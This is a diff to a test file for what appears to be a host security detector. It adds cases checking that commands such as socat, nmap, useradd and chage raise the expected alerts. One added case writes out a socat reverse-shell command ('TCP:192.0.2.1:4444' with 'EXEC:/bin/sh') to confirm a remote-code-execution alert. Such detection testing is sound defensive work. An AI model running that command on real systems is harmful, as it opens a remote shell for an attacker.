@@ -30,9 +30,17 @@ STEPS = (
         expected=("Netcat/Socat Remote Code Execution on Host", NETWORK_TOOL),
     ),
     host("netcat without", "{bin}/nc", "-h", programs=("nc",), expected=(NETWORK_TOOL,)),
+    host(
+        "relay with a program",
+        *("{bin}/socat", "-c", "0", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"),
+        programs=("socat",),
+        expected=("Netcat/Socat Remote Code Execution on Host", NETWORK_TOOL),
+    ),
+    host("relay without", "{bin}/socat", "-c", "0", programs=("socat",), expected=(NETWORK_TOOL,)),
     host("scanner", "{bin}/nmap", "-c", "0", programs=("nmap",), expected=(NETWORK_TOOL,)),
     host("not a scanner", "{bin}/mapn", "-c", "0", programs=("mapn",)),
     host("user added", "{bin}/useradd", "-c", "0", programs=("useradd",), expected=("User mgmt binaries",)),
+    host("age of a password shown", "{bin}/chage", "-c", "0", "-l", "root", programs=("chage",)),
     host("user's defaults shown", "{bin}/useradd", "-D", programs=("useradd",)),
     host("jobs changed", "{bin}/crontab", "--help", programs=("crontab",), expected=("Schedule Cron Jobs",)),
     host(
